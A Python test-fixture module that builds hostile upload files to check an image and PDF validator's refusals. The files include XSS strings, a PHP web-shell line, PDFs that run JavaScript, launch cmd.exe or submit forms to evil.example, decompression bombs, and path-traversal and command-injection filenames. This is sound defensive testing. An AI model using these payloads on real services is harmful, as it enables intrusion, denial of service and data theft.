"""Hostile and borderline files, made here and nowhere stored."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pillow_heif
from PIL import Image, PngImagePlugin

PAYLOAD = b"<script>alert('PAYLOAD-5f3')</script>"
MARK = b"PAYLOAD-5f3"
GPS = {1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)}


def picture(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    """Stripes, so that turning it can be seen."""
    image = Image.new(mode, size, 0)
    image.paste(Image.new(mode, (size[0] // 2, size[1]), 200 if mode in {"L", "P", "1"} else "red"), (0, 0))
    return image


def saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    target = io.BytesIO()
    image.save(target, kind, **options)
    return target.getvalue()


def exif(orientation: int = 1) -> Image.Exif:
    """A phone's notes: where it was, which camera, what was typed."""
    notes = Image.Exif()
    notes[0x0112] = orientation
    notes[0x010F] = "PAYLOAD-5f3 camera"
    notes.get_ifd(0x8825).update(GPS)
    return notes


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header(width: int, height: int, *more: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = (chunk(b"IHDR", head), *more, chunk(b"IDAT", zlib.compress(b"\0" * 100)), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


def png_of_169_megapixels() -> bytes:
    rows = zlib.compress((b"\0" + b"\0" * 1625) * 13000, 9)
    head = struct.pack(">IIBBBBB", 13000, 13000, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def ztxt_bomb() -> bytes:
    return png_header(8, 8, chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 60_000_000, 9)))


def iccp_bomb() -> bytes:
    return png_header(8, 8, chunk(b"iCCP", b"p\0\0" + zlib.compress(b"A" * 60_000_000, 9)))


def png_with_text() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", PAYLOAD.decode())
    notes.add_itxt("XML:com.adobe.xmp", PAYLOAD.decode())
    return saved(picture(), "PNG", pnginfo=notes) + PAYLOAD


def mhtml_in_png() -> bytes:
    return png_header(
        8, 8, chunk(b"tEXt", b"x\0MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + PAYLOAD)
    )


def zipped(name: str = "a.txt", contents: bytes = b"x") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, contents)
    return target.getvalue()


def moving(kind: str, frames: int = 3) -> bytes:
    stills = [picture((16, 16)).rotate(n * 37) for n in range(frames)]
    return saved(stills[0], kind, save_all=True, append_images=stills[1:])


def heic(**options: Any) -> bytes:
    pillow_heif.register_heif_opener()
    return saved(picture(), "HEIF", quality=40, **options)


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **options: Any) -> bytes:
    """One page, and what `change` adds to it."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    if change:
        change(document)
    target = io.BytesIO()
    document.save(target, **options)
    return target.getvalue()


def acting(**action: Any) -> Callable[[pikepdf.Pdf], None]:
    """An action that runs when the file is opened."""

    def change(document: pikepdf.Pdf) -> None:
        names = {"/" + key: value for key, value in action.items()}
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(names))

    return change


SCRIPT = acting(S=pikepdf.Name.JavaScript, JS="app.alert('PAYLOAD-5f3')")


def script_on_a_page(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=document.make_stream(b"app.alert(1)"))
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=pikepdf.Array([action])
    )
    document.pages[0].Annots = pikepdf.Array([link])


def named_scripts(document: pikepdf.Pdf) -> None:
    tree = pikepdf.Dictionary(Names=["x", pikepdf.Dictionary(S=pikepdf.Name.GoTo)])
    document.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def submitting(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")
    document.pages[0].AA = pikepdf.Dictionary(O=action)


def with_xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))


def carrying(name: str, contents: bytes) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments[name] = pikepdf.AttachedFileSpec(document, contents, filename=name)

    return change


def pdf_without_pages() -> bytes:
    target = io.BytesIO()
    pikepdf.new().save(target)
    return target.getvalue()


def pdf_in_hexadecimal() -> bytes:
    return pdf(SCRIPT, object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(
        b"/JavaScript", b"/J#61vaScript"
    )


def pdf_in_object_stream() -> bytes:
    made = pdf(SCRIPT, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in made  # compressed: a search of the bytes finds nothing
    return made


def pdf_bomb() -> bytes:
    """An object stream that unpacks to more than the child may hold."""
    packer = zlib.compressobj(1)
    block = b" " * 16_000_000
    packed = b"".join(packer.compress(block) for _ in range(90)) + packer.flush()
    stream = b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    body = b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 3 0 R>>endobj\n"
    at = len(body)
    body += stream + packed + b"\nendstream endobj\n"
    rows = [(0, 0, 255), (1, 9, 0), (1, at, 0), (2, 2, 0), (1, len(body), 0)]
    table = b"".join(struct.pack(">BIB", kind, where, index & 255) for kind, where, index in rows)
    body += b"4 0 obj<</Type/XRef/Size 5/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return body + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % rows[4][1]


REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing at all": ("empty", lambda: b""),
    "text named jpg": ("not_allowed", lambda: b"hello"),
    "web page": ("not_allowed", lambda: b"<!doctype html>" + PAYLOAD),
    "SVG": ("not_allowed", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + PAYLOAD + b"</svg>"),
    "SVG with a declaration": ("not_allowed", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
    "PHP": ("not_allowed", lambda: b"<?php system($_GET['x']); ?>"),
    "archive": ("not_allowed", zipped),
    "archive that climbs": ("not_allowed", lambda: zipped("../../etc/cron.d/x")),
    "spreadsheet bomb": ("not_allowed", lambda: zipped("xl/worksheets/sheet1.xml", b"0" * 30_000_000)),
    "program": ("not_allowed", lambda: b"MZ\x90\0" + b"\0" * 100),
    "still GIF": ("not_allowed", lambda: saved(picture(), "GIF")),
    "GIF of 300 frames": ("not_allowed", lambda: moving("GIF", 300)),
    "GIF that is a script": ("not_allowed", lambda: b"GIF89a/*" + b"\0" * 30 + b"*/=1;alert(1)"),
    "TIFF named jpg": ("not_allowed", lambda: saved(picture(), "TIFF")),
    "EPS named jpg": ("not_allowed", lambda: saved(picture(), "EPS")),
    "bitmap": ("not_allowed", lambda: saved(picture(), "BMP")),
    "icon": ("not_allowed", lambda: saved(picture(), "ICO")),
    "film named heic": ("not_allowed", lambda: b"\0\0\0\x18ftypisom" + b"\0" * 100),
    "RIFF that is no WebP": ("not_allowed", lambda: b"RIFF\x10\0\0\0AVI LIST"),
    "PDF behind a script": ("not_allowed", lambda: PAYLOAD + pdf()),
    "PNG header of 1.6 gigapixels": ("too_many_pixels", lambda: png_header(40_000, 40_000)),
    "PNG of 169 megapixels": ("too_many_pixels", png_of_169_megapixels),
    "PNG header of 2^31 pixels": ("too_many_pixels", lambda: png_header(2**31 - 1, 2**31 - 1)),
    "PNG with 60 MB of text": ("broken", ztxt_bomb),
    "PNG with 60 MB of profile": ("broken", iccp_bomb),
    "PNG with its picture missing": ("broken", lambda: png_header(800, 800)),
    "moving PNG": ("moving", lambda: moving("PNG")),
    "moving WebP": ("moving", lambda: moving("WEBP")),
    "half a JPEG": ("broken", lambda: saved(picture((800, 600)), "JPEG")[:2000]),
    "half a PNG": ("broken", lambda: saved(Image.effect_noise((300, 300), 80), "PNG")[:2000]),
    "half a WebP": ("broken", lambda: saved(Image.effect_noise((300, 300), 80), "WEBP")[:2000]),
    "half a HEIC": ("broken", lambda: heic()[:300]),
    "JPEG of three bytes": ("broken", lambda: b"\xff\xd8\xff"),
    "HEIC of noise": ("broken", lambda: b"\0\0\0\x18ftypheic" + bytes(range(256)) * 8),
    "PDF with a script": ("active_content", lambda: pdf(SCRIPT)),
    "PDF with a script in hexadecimal": ("active_content", pdf_in_hexadecimal),
    "PDF with a script in an object stream": ("active_content", pdf_in_object_stream),
    "PDF with a script in an array on a page": ("active_content", lambda: pdf(script_on_a_page)),
    "PDF with named scripts": ("active_content", lambda: pdf(named_scripts)),
    "PDF that starts a program": (
        "active_content",
        lambda: pdf(acting(S=pikepdf.Name.Launch, F="cmd.exe")),
    ),
    "PDF that opens another": ("active_content", lambda: pdf(acting(S=pikepdf.Name.GoToR, F="//evil/x.pdf"))),
    "PDF that sends a form": ("active_content", lambda: pdf(submitting)),
    "PDF with an XFA form": ("active_content", lambda: pdf(with_xfa)),
    "PDF with a program inside": ("attachment", lambda: pdf(carrying("x.exe", b"MZ\x90\0"))),
    "PDF with a web page inside": (
        "attachment",
        lambda: pdf(carrying("x.xml", b"<?xml version='1.0'?>" + PAYLOAD)),
    ),
    "PDF with a password": ("locked", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u"))),
    "PDF without pages": ("broken", pdf_without_pages),
    "PDF of one line": ("broken", lambda: b"%PDF-1.7\n"),
    "half a PDF": ("broken", lambda: pdf()[:60]),
    "PDF of noise": ("broken", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40),
}
"""Name, the code of its refusal, and how it is made."""

HARMLESS: dict[str, Callable[[], bytes]] = {
    "JPEG with a comment": lambda: saved(picture(), "JPEG", comment=PAYLOAD),
    "JPEG with a place": lambda: saved(picture(), "JPEG", exif=exif()),
    "JPEG that is an archive too": lambda: saved(picture(), "JPEG") + zipped("x.html", PAYLOAD) + PAYLOAD,
    "JPEG in printers' colours": lambda: saved(picture(mode="CMYK"), "JPEG"),
    "JPEG with a profile": lambda: saved(picture(), "JPEG", icc_profile=PAYLOAD),
    "JPEG lying on its side": lambda: saved(picture(), "JPEG", exif=exif(orientation=6)),
    "PNG with text and a page behind it": png_with_text,
    "PNG with a mail inside": mhtml_in_png,
    "PNG one sees through": lambda: saved(picture(mode="RGBA"), "PNG"),
    "PNG with a palette": lambda: saved(picture(mode="P"), "PNG", transparency=0),
    "PNG of sixteen bits": lambda: saved(Image.new("I;16", (40, 30), 40_000), "PNG"),
    "WebP with notes": lambda: saved(picture(), "WEBP", exif=exif(), xmp=PAYLOAD),
    "HEIC with a place": lambda: heic(exif=exif()),
    "plain PDF": pdf,
    "PDF with a page behind it": lambda: pdf() + b"\n" + PAYLOAD,
    "PDF with a link": lambda: pdf(acting(S=pikepdf.Name.URI, URI="https://roofer.example/")),
    "electronic invoice": lambda: pdf(carrying("factur-x.xml", b"\xef\xbb\xbf<?xml version='1.0'?><rsm:X/>")),
}
"""Taken; nothing of what they carry may come out again."""

NAMES = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\x.png",
    "/etc/cron.d/x",
    "C:\\x.png",
    "%2e%2e%2fx.png",
    "....//....//x.png",
    "a\x00.png",
    "photo\u202egnp.exe",
    "a\r\nSet-Cookie: x=1.png",
    "a\u2028b.png",
    "x" * 300 + ".png",
    "é" * 300,
    "CON",
    "nul.png",
    "COM1.txt",
    ".htaccess",
    ".",
    "..",
    "",
    "   ",
    "-rf .png",
    "$(id).png",
    "`id`.png",
    "|id",
    'a";alert(1);".png',
    "<img src=x onerror=alert(1)>.png",
    "a.png;.php",
    "photo.php.png",
    "\U000e0041\u200b\ufeff.png",
    "dégât des eaux n°1.png",
]
